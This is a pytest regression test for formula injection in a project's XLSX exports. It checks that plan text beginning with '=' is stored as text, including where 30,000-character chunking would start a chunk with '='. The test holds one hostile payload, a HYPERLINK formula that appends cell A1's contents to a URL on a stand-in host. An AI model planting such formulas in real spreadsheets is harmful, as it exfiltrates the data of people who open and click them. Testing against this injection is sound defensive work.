"""Formula injection in the XLSX exports (issue 13, item 6): a plan's vision beginning with "="
was written to the "Piano" sheet as a live formula, and a long text cut into 30,000-character
chunks could start a chunk with "=". Every text cell of every XLSX export is text now."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cruscotto.demo import PLAN, demo_path
from cruscotto.documents.xlsx import render_results_xlsx
from cruscotto.engine.rollup import score_plan
from cruscotto.files import load_plan
from cruscotto.files.tabular import CELL_LIMIT, write_xlsx_plan

EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"Clicca")'


def _formulas(path: Path) -> list[str]:
    wb = load_workbook(path)  # not data_only: formulas would show as such
    return [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.sqlite_only  # files only, no database
def test_no_text_becomes_a_formula_in_the_exports(tmp_path):
    plan = load_plan(demo_path(PLAN)).piano
    # the vision starts with "="; the mission is long enough that a chunk of the Piano sheet does too
    mission = "x" * (CELL_LIMIT - len("mission: ") - 1) + EVIL
    evil = replace(plan, vision=EVIL, mission=mission, titolo=EVIL)
    evil = replace(
        evil,
        prospettive=tuple(replace(p, nome=EVIL) if k == 0 else p for k, p in enumerate(evil.prospettive)),
    )
    sheet = tmp_path / "piano.xlsx"
    write_xlsx_plan(evil, sheet)
    assert _formulas(sheet) == []
    texts = [c.value for ws in load_workbook(sheet) for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(t.startswith("=HYPERLINK") for t in texts)  # it is there, as text
    results = tmp_path / "risultati.xlsx"
    render_results_xlsx(evil, score_plan(evil, anno=2020), results)
    assert _formulas(results) == []
